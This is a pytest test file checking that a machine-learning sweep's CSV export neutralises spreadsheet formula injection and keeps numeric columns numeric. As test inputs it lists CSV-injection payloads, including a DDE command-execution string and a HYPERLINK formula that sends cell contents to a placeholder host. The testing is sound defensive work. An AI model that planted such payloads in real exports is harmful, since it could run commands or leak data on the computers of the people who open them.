"""The table of a sweep's trials: no cell is a formula, numbers stay numbers, and pandas reads back what was written."""

import io

import pandas
import pytest

from paceline.tracking.trials_table import TrialRow, trials_csv

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd()",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://host/?x="&A1,"see")',
    "-1_000",
    "--1",
    "\uff1d1+1",
]
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")


def read(rows: list[TrialRow]) -> pandas.DataFrame:
    return pandas.read_csv(io.StringIO(trials_csv(rows), newline=""), keep_default_na=False)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    rows = [TrialRow(text, {text: text, "lr": 0.1}, text, text, {text: 0.5})]
    table = read(rows)
    written = [*table.columns, *(value for value in table.iloc[0] if isinstance(value, str))]
    assert [value for value in written if value.startswith(BEGINNINGS)] == []
    assert table["reason"][0].replace("'", "") == text.replace("\r", "\n").replace("'", "")
    assert table["lr"][0] == 0.1


@pytest.mark.parametrize("text", ["out of room;=1+1", "out of room\t@SUM(1)"])
def test_no_cell_hides_a_formula_behind_another_separator(text: str) -> None:
    cell = read([TrialRow("1", {}, "failed", text)])["reason"][0]
    assert not [part for part in cell.replace("\t", ";").split(";") if part.startswith(BEGINNINGS)]


def test_numbers_are_read_as_numbers() -> None:
    values = ["-0.1", "+3", "-1e-05", "-.5", "-inf", "1e10", "-nan", "7"]
    loss = {"loss": -1.5}
    table = pandas.read_csv(
        io.StringIO(trials_csv([TrialRow("1", {"lr": each}, "finished", metrics=loss) for each in values]))
    )
    assert table["lr"].dtype == float
    assert table["lr"].dropna().tolist() == [-0.1, 3.0, -1e-05, -0.5, float("-inf"), 1e10, 7.0]
    assert table["loss"].tolist() == [-1.5] * len(values)


def test_ordinary_texts_stay_as_they_are() -> None:
    texts = ["a=b", "lr 1e-3; why: x - y", "[-1, 2]", "'quoted'", "user@host", "line\nbreak\n- item", ""]
    table = read([TrialRow("1", {"note": text}, "failed", text) for text in texts])
    assert table["reason"].tolist() == texts
    assert table["note"].tolist() == texts
